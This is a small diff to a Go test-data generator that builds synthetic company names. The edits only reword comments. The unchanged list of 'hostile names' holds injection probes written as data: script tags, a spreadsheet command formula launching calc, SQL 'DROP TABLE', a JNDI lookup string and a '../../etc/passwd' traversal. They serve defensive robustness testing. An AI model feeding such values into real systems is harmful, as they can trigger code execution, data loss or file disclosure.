@@ -16,8 +16,8 @@ type region struct {
 	patterns []string // F: family, G: another family, T: trade, P: town, L: legal form
 }
 
-// regions returns the sources of ordinary names. The words are common. Any
-// resemblance to an existing firm is accidental.
+// regions returns the word lists for ordinary names. Any resemblance to an
+// existing company is accidental.
 func regions() []region {
 	return append([]region{english(), german(), french(), nordic(), iberian(), eastern()}, scripts()...)
 }
@@ -214,8 +214,8 @@ func scripts() []region {
 }
 
 // hostileNames returns names that break careless programs. A person could have
-// typed, pasted or imported each of them. Every seed that is large enough
-// contains all of them.
+// typed, pasted or imported each of them. [Tenant.Seed] adds all of them if n
+// is large enough.
 func hostileNames() []string {
 	long := "The Worshipful Amalgamated Society of " + strings.Repeat("Carpenters, Joiners, Turners and ", 7) + "Allied Trades of Great Britain & Ireland Ltd"
 	return []string{
@@ -235,7 +235,7 @@ func hostileNames() []string {
 		"<b>Bold</b> Marketing Ltd", "<script>alert(1)</script> Web Design", "R&amp;D Services Ltd", "P&L <Finance> Ltd",
 		`=cmd|'/c calc'!A1`, "=1+1 Consulting", "+44 Telecoms Ltd", "-Minus Zero Ltd", "@Home Care Ltd", "=HYPERLINK(\"http://example.invalid\",\"Invoices\")",
 		"Robert'); DROP TABLE clients;--", "100% Cotton_Mill Ltd", "{{.Name}} Ltd", "${jndi:ldap://example.invalid/a}", "../../etc/passwd Ltd", "A, B; C Ltd",
-		// Words with a meaning to programs.
+		// Words that programs treat specially.
 		"null", "NULL Ltd", "None", "true", "0", "42", "1e3 Ltd", "12.0", "NaN Bakery", "undefined",
 		// Other scripts, right-to-left text, emoji of several code points,
 		// letters outside the first plane.
